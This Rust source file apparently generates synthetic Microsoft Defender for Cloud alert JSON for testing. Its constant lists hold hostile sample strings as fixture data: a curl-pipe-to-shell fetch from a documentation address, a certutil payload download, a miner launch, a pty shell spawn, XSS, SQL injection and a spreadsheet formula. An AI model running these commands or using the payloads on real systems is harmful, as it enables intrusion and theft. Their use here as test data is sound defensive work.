//! One alert: a recipe of a few numbers that becomes 3–4 KB of JSON when someone asks.

use std::borrow::Cow;

use jiff::{SignedDuration, Timestamp};
use serde_json::{Map, Value, json};

use super::alert_types::AlertType;
use super::company::{PEOPLE, TENANT_DOMAIN};
use super::resources::{Kind, Resource};
use super::workspaces::Workspace;
use crate::dice::{alert_name, azure_time, dice, guid, guid_from, hex, text_of};
use crate::import::group_of;
use crate::journal::Malformed;

/// Attackers choose these names; some are meant to break pages that show them unescaped.
const PROCESSES: &[&str] = &[
    "xmr-helper",
    "/tmp/.cache/kworkerd",
    "updater64.exe",
    "<script>alert(1)</script>.exe",
    "invoice_\"final\" & 'signed'.scr",
    "🦊-agent.sh",
    "rclone",
    "curl",
    "=HYPERLINK(\"http://x.example\")",
    "powershell.exe",
];
const COMMANDS: &[&str] = &[
    "curl -fsSL http://203.0.113.80/i.sh | sh",
    "GET /wp-login.php?next=<img src=x onerror=alert(1)>",
    "SELECT * FROM meters WHERE id='1' OR '1'='1' --",
    "certutil -urlcache -split -f https://drop.example/p.bin %TEMP%\\p.bin",
    "nohup ./kworkerd -o stratum+tcp://pool.example:4444 -u \"wallet\" &",
    "python3 -c \"import pty; pty.spawn('/bin/sh')\"",
];

/// Alert types that say how sure they are: level, score, and what of the alert made them so sure.
const CONFIDENCE: &[(&str, &str, f64, &str, &str)] = &[
    ("VM_QuietMiner", "High", 0.9, "Process", "The process talks to an address that pools of miners use."),
    ("VM_PasswordSprayWon", "Low", 0.4, "User", "The account signed in from this network before."),
    ("SQL_BruteForceHit", "High", 0.8, "Computer", "The address tried the same names at other servers."),
];

/// Everything an alert is made of.
#[derive(Debug, Clone)]
pub(crate) struct Recipe {
    /// Its name and system alert id.
    pub name: String,
    pub generated: Timestamp,
    pub processed: Timestamp,
    /// Which of the alert types.
    pub alert_type: &'static AlertType,
    /// Which of the world's resources.
    pub resource: usize,
    pub severity: String,
    /// Rolls the details.
    pub nonce: u64,
    /// Wanted size of the JSON in bytes; 0 = as it comes.
    pub bytes: usize,
    pub malformed: Option<Malformed>,
    /// Whether it is one of `alerts/default/simulate`.
    pub sample: bool,
}

/// An alert of the world.
#[derive(Debug, Clone)]
pub(crate) struct Alert {
    pub source: Source,
    /// A status that overrides the source's.
    pub status: Option<&'static str>,
}

/// Where an alert's content comes from.
#[derive(Debug, Clone)]
pub(crate) enum Source {
    Made(Box<Recipe>),
    /// The ARM item as imported.
    Imported(Box<Value>),
}

impl Recipe {
    pub(crate) fn new(
        seed: u64,
        nonce: u64,
        processed: Timestamp,
        alert_type: &'static AlertType,
        resource: usize,
    ) -> Self {
        let mut rng = dice(seed, "alert", nonce);
        let lag = SignedDuration::from_millis(rng.i64(150..900));
        let generated = processed.checked_sub(lag).unwrap_or(processed);
        Self {
            name: alert_name(generated, &mut rng),
            generated,
            processed,
            alert_type,
            resource,
            severity: alert_type.severity.to_owned(),
            nonce,
            bytes: 0,
            malformed: None,
            sample: false,
        }
    }

    /// `alertType` on the wire.
    pub(crate) fn key(&self) -> Cow<'static, str> {
        if self.sample { format!("SIMULATED_{}", self.alert_type.key).into() } else { self.alert_type.key.into() }
    }

    /// The ARM id of this alert about that resource.
    pub(crate) fn id(&self, resource: &Resource) -> String {
        let group =
            if resource.group.is_empty() { String::new() } else { format!("/resourceGroups/{}", resource.group) };
        format!(
            "/subscriptions/{}{group}/providers/Microsoft.Security/locations/{}/alerts/{}",
            resource.subscription, resource.location, self.name
        )
    }

    /// `properties` as ARM answers them. Agents of machines report to the workspace.
    pub(crate) fn properties(
        &self,
        seed: u64,
        tenant: &str,
        resource: &Resource,
        workspace: Option<&Workspace>,
        status: &str,
    ) -> Value {
        let mut rng = dice(seed, "details", self.nonce);
        let about = self.alert_type;
        let user = text_of(&mut rng, PEOPLE);
        let address = format!("203.0.113.{}", rng.u8(1..255));
        let process = text_of(&mut rng, PROCESSES);
        let command = text_of(&mut rng, COMMANDS);
        let fill = |text: &str| {
            text.replace("{resource}", &resource.name)
                .replace("{user}", user)
                .replace("{ip}", &address)
                .replace("{process}", process)
                .replace("{command}", command)
        };
        let ended = self.generated.checked_sub(SignedDuration::from_secs(2)).unwrap_or(self.generated);
        let started = ended.checked_sub(SignedDuration::from_secs(rng.i64(20..900))).unwrap_or(ended);
        let (sub_techniques, techniques): (Vec<&str>, Vec<&str>) =
            about.techniques.iter().partition(|technique| technique.contains('.'));
        let portal = format!(
            "https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/AlertBlade/alertId/{}/subscriptionId/{}/resourceGroup/{}/referencedFrom/alertDeepLink/location/{}",
            self.name, resource.subscription, resource.group, resource.location
        );
        let mut properties = json!({
            "version": "2022-01-01",
            "vendorName": "Microsoft",
            "productName": "Microsoft Defender for Cloud",
            "productComponentName": about.component,
            "alertType": about.key,
            "alertDisplayName": about.title,
            "description": fill(about.description),
            "severity": if self.malformed == Some(Malformed::Severity) { "Catastrophic" } else { &self.severity },
            "status": status,
            "intent": about.intent,
            "techniques": techniques,
            "subTechniques": sub_techniques,
            "systemAlertId": self.name,
            "correlationKey": hex(&mut rng, 32),
            "isIncident": false,
            "startTimeUtc": azure_time(started),
            "endTimeUtc": azure_time(ended),
            "timeGeneratedUtc": azure_time(self.generated),
            "processingEndTimeUtc": azure_time(self.processed),
            "compromisedEntity": resource.name,
            "resourceIdentifiers": identifiers(seed, tenant, resource, workspace),
            "remediationSteps": about.remediation.iter().map(|step| fill(step)).collect::<Vec<_>>(),
            "extendedProperties": extended(about, resource, user, &address, process, command, &mut rng),
            "extendedLinks": [{"href": format!("https://alerts.{TENANT_DOMAIN}/runbooks/{}", about.key), "category": null, "label": "Runbook", "type": "webLink"}],
            "alertUri": portal,
            "entities": entities(resource, user, &address, process, command, &mut rng),
        });
        if self.sample {
            properties["alertType"] = self.key().into();
            properties["alertDisplayName"] = format!("[SAMPLE ALERT] {}", about.title).into();
            properties["description"] = format!("THIS IS A SAMPLE ALERT: {}", fill(about.description)).into();
        }
        add_confidence(&mut properties, about.key);
        pad(&mut properties, self.bytes);
        properties
    }
}

fn identifiers(seed: u64, tenant: &str, resource: &Resource, workspace: Option<&Workspace>) -> Vec<Value> {
    let mut found = vec![
        json!({"$id": "ald_1", "azureResourceId": resource.id, "type": "AzureResource", "azureResourceTenantId": tenant}),
        json!({"$id": "ald_2", "aadTenantId": tenant, "type": "AAD"}),
    ];
    if let Some(workspace) = workspace
        && matches!(resource.kind, Kind::Machine | Kind::ArcMachine)
    {
        found.push(json!({
            "$id": "ald_9", "workspaceId": workspace.customer_id, "workspaceSubscriptionId": workspace.subscription,
            "workspaceResourceGroup": group_of(&workspace.id).unwrap_or_default(), "agentId": guid(seed, &resource.id, 13),
            "type": "LogAnalytics", "workspaceTenantId": tenant,
        }));
    }
    found
}

fn add_confidence(properties: &mut Value, key: &str) {
    let Some((_, level, score, of, reason)) = CONFIDENCE.iter().find(|(known, ..)| *known == key) else { return };
    properties["confidenceLevel"] = json!(level);
    properties["confidenceScore"] = json!(score);
    properties["confidenceReasons"] = json!([{"type": of, "reason": reason}]);
}

/// The largest alert, in bytes.
pub(crate) const LARGEST: usize = 4 * 1024 * 1024;

/// Lengthens the description until the JSON has the wanted size.
fn pad(properties: &mut Value, bytes: usize) {
    // A journal of an earlier release may hold orders without a limit.
    let missing = bytes.min(LARGEST).saturating_sub(if bytes == 0 { 0 } else { properties.to_string().len() });
    if missing > 0
        && let Some(Value::String(description)) = properties.get_mut("description")
    {
        description.push(' ');
        description.extend("Padding as ordered. ".chars().cycle().take(missing - 1));
    }
}

fn extended(
    about: &AlertType,
    resource: &Resource,
    user: &str,
    address: &str,
    process: &str,
    command: &str,
    rng: &mut fastrand::Rng,
) -> Map<String, Value> {
    let attempts = rng.u32(12..900);
    let process_id = format!("0x{}", hex(rng, 4));
    let entries = [
        ("resourceType", resource.arm_type.clone()),
        ("compromised Host", resource.name.clone()),
        ("user Name", user.to_owned()),
        ("source Address", address.to_owned()),
        ("suspicious Process", process.to_owned()),
        ("suspicious Command Line", command.to_owned()),
        ("suspicious Process Id", process_id),
        ("number of Attempts", attempts.to_string()),
        ("killChainIntent", about.intent.to_owned()),
        ("productComponentName", about.component.to_owned()),
        ("effectiveAzureResourceId", resource.id.clone()),
        ("effectiveSubscriptionId", resource.subscription.clone()),
        ("alert Id", guid_from(rng)),
    ];
    entries.into_iter().map(|(key, value)| (key.to_owned(), Value::String(value))).collect()
}

fn entities(
    resource: &Resource,
    user: &str,
    address: &str,
    process: &str,
    command: &str,
    rng: &mut fastrand::Rng,
) -> Vec<Value> {
    let place = text_of(rng, &["Reykjavik", "Curitiba", "Daejeon", "Gdansk", "Mombasa"]);
    let mut entities = vec![
        json!({"$id": "ald_3", "resourceId": resource.id, "resourceType": resource.arm_type, "resourceName": resource.name, "type": "azure-resource"}),
        json!({"$id": "ald_4", "name": user, "upnSuffix": TENANT_DOMAIN, "aadUserId": guid_from(rng), "isDomainJoined": false, "type": "account"}),
        json!({"$id": "ald_5", "address": address, "location": {"countryCode": "ZZ", "city": place, "asn": rng.u32(1000..60000), "carrier": "Example Transit"}, "type": "ip"}),
    ];
    if matches!(resource.kind, Kind::Machine | Kind::ArcMachine | Kind::Cluster | Kind::Web) {
        let digest = hex(rng, 64);
        entities.extend([
            json!({"$id": "ald_6", "hostName": resource.name, "netBiosName": resource.name, "azureID": resource.id, "dnsDomain": TENANT_DOMAIN, "osFamily": "Linux", "type": "host"}),
            json!({"$id": "ald_7", "directory": "/tmp/.cache", "name": process, "fileHashes": [{"algorithm": "SHA256", "value": digest, "type": "filehash"}], "host": {"$ref": "ald_6"}, "type": "file"}),
            json!({"$id": "ald_8", "processId": format!("0x{}", hex(rng, 4)), "commandLine": command, "imageFile": {"$ref": "ald_7"}, "account": {"$ref": "ald_4"}, "host": {"$ref": "ald_6"}, "type": "process"}),
        ]);
    }
    entities
}

/// `properties` as Resource Graph answers them: the same with an upper-case first letter on each outer name.
pub(crate) fn to_graph(properties: Value) -> Value {
    match properties {
        Value::Object(map) => map.into_iter().map(|(key, value)| (capitalised(&key), value)).collect(),
        other => other,
    }
}

fn capitalised(name: &str) -> String {
    let mut letters = name.chars();
    letters.next().map_or_else(String::new, |first| first.to_uppercase().chain(letters).collect())
}

/// The outer name in ARM's spelling for one in Resource Graph's.
pub(crate) fn uncapitalised(name: &str) -> String {
    let mut letters = name.chars();
    letters.next().map_or_else(String::new, |first| first.to_lowercase().chain(letters).collect())
}
